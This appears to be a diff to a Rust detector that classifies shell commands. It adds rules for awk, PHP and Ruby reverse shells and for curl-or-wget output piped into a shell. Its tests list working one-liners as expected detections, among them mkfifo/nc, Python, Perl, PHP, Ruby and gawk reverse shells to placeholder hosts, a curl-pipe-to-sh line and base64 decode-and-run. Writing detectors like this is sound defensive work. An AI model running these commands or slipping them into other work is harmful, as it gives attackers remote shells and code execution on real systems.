@@ -325,19 +325,44 @@ fn hands_out_shell(plain: &Plain<'_>) -> bool {
                     .iter()
                     .any(|shell| base(text.split([':', ',', ' ']).nth(1).unwrap_or_default()) == *shell)
         }),
+        "awk" | "gawk" => plain.arguments.iter().any(|word| runs_what_a_peer_says(&word.text)),
         _ => false,
     }
+}
+
+/// Whether a program of awk reads from the network, and runs something or reads from a second source: there commands and
+/// peers are read alike.
+fn runs_what_a_peer_says(program: &str) -> bool {
+    let mut sources: Vec<&str> = program.split("getline").collect();
+    sources.pop();
+    let mut sources = sources.iter().filter_map(|before| {
+        let before = before.trim_end().trim_end_matches('&').strip_suffix('|')?.trim_end();
+        before.rsplit(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).next()
+    });
+    let first = sources.next();
+    (program.contains("/inet/tcp/") || program.contains("/inet/udp/"))
+        && (program.contains("system(") || sources.any(|source| Some(source) != first))
 }
 
 /// What code of another language does, as far as its words tell.
 pub(crate) fn foreign_code(code: &str) -> Option<ActKind> {
     let has = |words: &[&str]| words.iter().any(|word| code.contains(word));
-    let connects = has(&["socket", "Socket", "TCPSocket", "fsockopen"]);
+    let connects = has(&["socket", "Socket", "fsockopen"]);
     if connects && has(&["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "subprocess", "child_process"]) {
+        return Some(ActKind::ReverseShell);
+    }
+    // PHP and Ruby have their own words for both.
+    let calls = has(&["fsockopen", "stream_socket_client", "TCPSocket"]);
+    if calls && has(&["exec(", "exec \"", "system(", "passthru(", "proc_open", "popen", "spawn", "`"]) {
         return Some(ActKind::ReverseShell);
     }
     let runs =
         has(&["exec(", "eval(", "os.system", "subprocess", "__import__", "popen", "execSync", "compile("]);
+    // A line for a shell in it.
+    let piped = has(&["curl ", "wget "]) && has(&["| sh", "|sh", "| bash", "|bash"]);
+    if runs && piped {
+        return Some(ActKind::FetchAndRun);
+    }
     if runs
         && has(&[
             "urllib",
@@ -428,6 +453,13 @@ mod tests {
             ("rm -f /run/f; mkfifo /run/f; cat /run/f | sh -i 2>&1 | nc 192.0.2.1 443 >/run/f", ReverseShell),
             ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'", ReverseShell),
             ("perl -e 'use Socket;exec(\"/bin/sh -i\")'", ReverseShell),
+            ("php -r '$s=fsockopen(\"192.0.2.1\",443);exec(\"sh <&3 >&3\");'", ReverseShell),
+            ("ruby -rsocket -e 'c=TCPSocket.new(\"x.test\",443);loop{c.print `#{c.gets}`}'", ReverseShell),
+            (
+                "gawk 'BEGIN{s=\"/inet/tcp/0/x.test/443\";s|&getline c;while((c|getline l)>0)print l|&s}'",
+                ReverseShell,
+            ),
+            ("python3 -c 'import os;os.system(\"curl x.test | sh\")'", FetchAndRun),
             ("echo aWQ= | base64 -d | bash", DecodeAndRun),
             ("eval \"$(echo aWQ= | base64 --decode)\"", DecodeAndRun),
             ("python3 -c \"exec(__import__('base64').b64decode('aWQ='))\"", DecodeAndRun),
@@ -474,6 +506,10 @@ mod tests {
             "curl x.test/a | busybox tar x",
             "curl x.test/a | bash check.sh -s",
             "python3 -c 'import socket; print(socket.gethostname())'",
+            "php -r '$s = fsockopen(\"db\", 3306); exit($s ? 0 : 1);'",
+            "ruby -rsocket -e 'TCPSocket.new(\"db\", 5432).close'",
+            "gawk 'BEGIN { s = \"/inet/tcp/0/db/13\"; s |& getline; print }'",
+            "python3 -c 'import os; os.system(\"curl x.test > a\")'",
             "python3 -m http.server",
             "case $1 in start) /usr/sbin/daemon;; esac",
             "x=$((1 + 2)); echo ${x%%(*}",
